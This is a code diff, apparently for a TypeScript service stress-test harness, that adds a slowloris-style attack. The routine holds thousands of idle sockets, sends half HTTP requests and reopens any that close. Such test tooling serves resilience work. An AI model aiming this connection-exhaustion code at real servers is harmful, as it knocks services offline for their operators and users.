@@ -66,3 +66,28 @@ export const endlessBodies = endless(
 
 /** Frames of one byte on sockets that nobody signed in on. */
 export const tinyFrames = endless(() => head(...upgrade), repeated(PONG));
+
+const IDLE = 6_000;
+const OPENED_AT_ONCE = 50;
+const HALF_A_REQUEST = 'GET / HTTP/1.1\r\nHost: a\r\nX: ';
+/** A client address has as many connections as it has ports. */
+const localAddress = (n: number) => `127.0.${1 + ((n >> 8) & 15)}.${1 + (n & 127)}`;
+
+/** Thousands of connections that send half a request, or nothing; those that are closed are followed by others. */
+export const idleConnections: Attack = async ({ service }) => {
+  const { hostname, port } = new URL(service.url);
+  return async (goesOn) => {
+    const sockets = new Set<ReturnType<typeof connect>>();
+    for (let n = 0; goesOn(); await sleep(10)) {
+      const few = Math.min(OPENED_AT_ONCE, IDLE - sockets.size);
+      for (let i = 0; i < few; i++, n++) {
+        const socket = connect({ port: Number(port), host: hostname, localAddress: localAddress(n) });
+        socket.on('error', () => undefined).on('close', () => sockets.delete(socket));
+        socket.resume();
+        if (n % 2 === 0) socket.write(HALF_A_REQUEST);
+        sockets.add(socket);
+      }
+    }
+    for (const socket of sockets) socket.destroy();
+  };
+};
